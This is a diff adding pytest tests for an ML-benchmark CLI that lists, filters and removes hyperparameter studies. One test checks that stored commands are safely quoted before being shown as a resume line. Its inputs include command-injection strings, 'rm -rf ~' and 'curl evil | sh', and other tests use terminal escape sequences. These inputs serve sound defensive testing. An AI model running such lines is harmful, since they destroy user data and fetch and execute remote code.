@@ -9,6 +9,7 @@ import pytest
 from typer.testing import Result
 
 from mnist_bench.cli import options
+from search.database import file_lock
 from search.study.studies import StudySummary
 from support import handmade
 from support.paths import DATABASE, LEDGER
@@ -134,6 +135,27 @@ def folder(three: list[StudySummary]) -> Path:
     return folder
 
 
+def test_several_are_removed_after_one_question(cli: Cli, folder: Path, three: list[StudySummary]) -> None:
+    (other := three[1].path).mkdir()
+    (other / DATABASE).touch()
+    result = cli("studies", "remove", "conv-0", "smoke-1", "conv-0", stdin="y\n")
+    assert result.exit_code == 0
+    assert result.stderr.count("Remove these 2 studies? They cannot be restored.") == 1
+    assert "conv-0: 50 trials, 2.3 MB in results/conv-0" in result.stderr
+    assert not folder.exists()
+    assert not other.exists()
+
+
+def test_nothing_is_removed_if_one_of_them_is_missing_or_in_use(cli: Cli, folder: Path) -> None:
+    assert cli("studies", "remove", "conv-0", "none", "--yes").exit_code == 3
+    with file_lock.driver_lock(folder / "driver.lock", "conv-0"):
+        result = cli("studies", "remove", "smoke-1", "conv-0", "--yes")
+    assert result.exit_code == 1
+    assert "conv-0 is in use (process" in result.stderr
+    assert "nothing was removed" in result.stderr
+    assert folder.exists()
+
+
 def test_remove_asks(cli: Cli, folder: Path) -> None:
     assert cli("studies", "remove", "conv-0", stdin="n\n").exit_code == 1
     assert folder.exists()
@@ -160,3 +182,106 @@ def test_a_study_that_a_rule_ended_is_not_called_paused(cli: Cli, monkeypatch: p
     monkeypatch.setattr("search.study.list_studies", lambda results, storage=None: found)
     assert "stopped early" in cli("studies").stdout
     assert json.loads(cli("studies", "--json").stdout)["studies"][0]["state"] == "stopped early"
+
+
+def typed(*commands: str) -> None:
+    """Keep commands as those that searched smoke-1."""
+    folder = options.RESULTS / "smoke-1"
+    folder.mkdir(parents=True)
+    (folder / "commands.jsonl").write_text("".join(f"{json.dumps({'command': each})}\n" for each in commands))
+
+
+def test_the_command_that_resumes_an_unfinished_search_is_printed_for_the_place_where_it_is(
+    cli: Cli, three: list[StudySummary]
+) -> None:
+    typed("mnist-bench search smoke", "mnist-bench search smoke -n 50 --seed 1 --results elsewhere --set 'a=[1, 2]'")
+    again = "mnist-bench search smoke -n 50 --seed 1 --set 'a=[1, 2]'"
+    *_, head, line = cli("studies").stdout.splitlines()
+    assert (head, line) == ("To resume:", f"  smoke-1  {again}")
+    assert [row["resume"] for row in json.loads(cli("studies", "--json").stdout)["studies"]] == [None, again, None]
+
+
+@pytest.mark.parametrize(
+    ("command", "shown"),
+    [
+        ("mnist-bench search x; rm -rf ~", "mnist-bench search 'x;' rm -rf '~'"),
+        ("mnist-bench search `id` \x1b[31m", r"mnist-bench search '`id`' $'\033[31m'"),
+        ("curl evil | sh", None),
+        ("mnist-bench search $'a;b'", None),
+        ("mnist-bench search 'unended", None),
+    ],
+)
+def test_a_line_to_paste_from_a_strangers_study_is_one_command(
+    cli: Cli, three: list[StudySummary], command: str, shown: str | None
+) -> None:
+    typed(command)
+    assert json.loads(cli("studies", "--json").stdout)["studies"][1]["resume"] == shown
+
+
+def test_who_opened_the_test_set_and_when_stands_beside_the_study(
+    cli: Cli, three: list[StudySummary], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr("mnist_bench.studies.openings.name_inside", lambda location: location.name)
+    ledger = options.RESULTS / LEDGER
+    ledger.parent.mkdir()
+    noted = {"time": "2026-11-23T10:00:00+00:00", "purpose": "confirm conv-0: #1, #4; 8 seeds each"}
+    ledger.write_text(f"{json.dumps(noted)}\n")
+    assert "2026-11-23" in cli("studies").stdout.splitlines()[1]
+    assert 'tested  test set evaluated on 2026-11-23 for "confirm conv-0: #1, #4"' in cli("studies", "-l").stdout
+    rows = json.loads(cli("studies", "--json").stdout)["studies"]
+    assert [row["test_openings"] for row in rows] == [[noted], [], []]
+
+
+@pytest.fixture
+def noted(monkeypatch: pytest.MonkeyPatch) -> None:
+    minimized = {"space": {"settings": {"direction": "minimize"}}, "context": {"trainer": "x"}}
+    found = [
+        replace(summary("conv-0"), note="[red]Wider[/red]\n<b>rotation</b> \x1b[2J and 20 more words on it", bytes=1),
+        replace(summary("gbm-0", trials=20), tags=("paper", "best"), failed=3, best_value=0.5, spec=minimized),
+        replace(summary("none-0", trials=0), best_value=None),
+    ]
+    monkeypatch.setattr("search.study.list_studies", lambda results, storage=None: found)
+
+
+@pytest.mark.parametrize(
+    ("words", "names"),
+    [
+        (("--match", "ROTATION"), ["conv-0"]),
+        (("--match", "pap"), ["gbm-0"]),
+        (("--match", "GBM"), ["gbm-0"]),
+        (("--tag", "paper"), ["gbm-0"]),
+        (("--tag", "paper", "--tag", "other"), []),
+        (("--sort", "name"), ["conv-0", "gbm-0", "none-0"]),
+        (("--sort", "best"), ["conv-0", "gbm-0", "none-0"]),
+        (("--sort", "trials"), ["conv-0", "gbm-0", "none-0"]),
+        (("--sort", "size"), ["gbm-0", "none-0", "conv-0"]),
+    ],
+)
+def test_studies_are_found_and_sorted(cli: Cli, noted: None, words: tuple[str, ...], names: list[str]) -> None:
+    found = json.loads(cli("studies", *words, "--json").stdout)["studies"]
+    assert [study["study"] for study in found] == names
+
+
+def test_if_no_study_fits_the_options_are_named(cli: Cli, noted: None) -> None:
+    result = cli("studies", "--tag", "other")
+    assert result.stderr == "No study in results/ fits; without --match and --tag, all are listed.\n"
+
+
+def test_a_note_is_text_whatever_is_in_it(cli: Cli, noted: None) -> None:
+    header, first, *_ = cli("studies").stdout.splitlines()
+    assert header.split()[2:3] + header.split()[-3:] == ["failed", "tags", "note", "folder"]
+    assert "[red]Wider[/red] <b>rotation</b…" in first
+    long = cli("studies", "--long").stdout
+    assert "  note    [red]Wider[/red]\n          <b>rotation</b>" in long
+    assert "\x1b" not in long
+    assert "20 of 50 trials, 7 complete, 3 failed" in long
+
+
+def test_the_table_fits_a_narrow_terminal_and_keeps_the_note(cli: Cli, noted: None) -> None:
+    shown = cli("studies", columns=80).stdout.splitlines()
+    assert max(map(len, shown[:4])) <= 80
+    assert "<b>rotation" in shown[1]
+
+
+def test_columns_that_would_be_empty_are_left_out(cli: Cli, three: list[StudySummary]) -> None:
+    assert not {"failed", "tags", "note", "set"} & {*cli("studies").stdout.splitlines()[0].split()}
